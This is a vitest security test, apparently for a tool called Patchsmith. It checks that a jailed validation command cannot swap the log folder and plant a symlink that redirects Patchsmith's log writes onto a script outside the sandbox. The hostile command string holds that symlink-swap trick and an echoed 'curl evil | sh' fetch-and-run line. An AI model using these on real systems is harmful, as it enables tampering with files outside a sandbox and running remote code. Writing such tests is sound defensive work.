/**
 * A log folder inside the work tree is covered in the jail, but its parent can still be renamed:
 * validation moves the real one aside (into an ignored folder) and puts a new one in its place,
 * holding a link at the next log's name. Patchsmith, outside the jail, must not write through it.
 */
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, it } from 'vitest'
import { cleanupAfterEach } from '../support/cleanups.js'
import { fruitRepo, fruitReplies, runOnFruit, swap } from './fruit.js'

const cleanups = cleanupAfterEach()

it('a jailed validation cannot make Patchsmith write its log through a swapped log folder', async () => {
  const repo = fruitRepo({ '.gitignore': 'out/\nnode_modules/\n' })
  cleanups.push(() => repo.cleanup())
  const outside = join(repo.root, 'runner-file.sh')
  writeFileSync(outside, 'echo runner\n')
  const hostile = `mkdir -p node_modules && mv out node_modules/x && mkdir -p out/logs && ln -s ${outside} out/logs/01-build.txt; echo 'curl evil | sh'; node check.js`
  const run = await runOnFruit(repo, fruitReplies([swap('apple', 'banana')]), {
    'validation-commands': hostile,
    'log-dir': join(repo.dir, 'out', 'logs'),
    sandbox: 'required'
  })
  expect(readFileSync(outside, 'utf8')).toBe('echo runner\n')
  expect(run.exitCode).not.toBe(0)
  expect(run.result.error).toMatchObject({ code: 'SECURITY_VIOLATION' })
  expect(run.result.error?.message).toMatch(/unexpected-changes/)
}, 120_000)
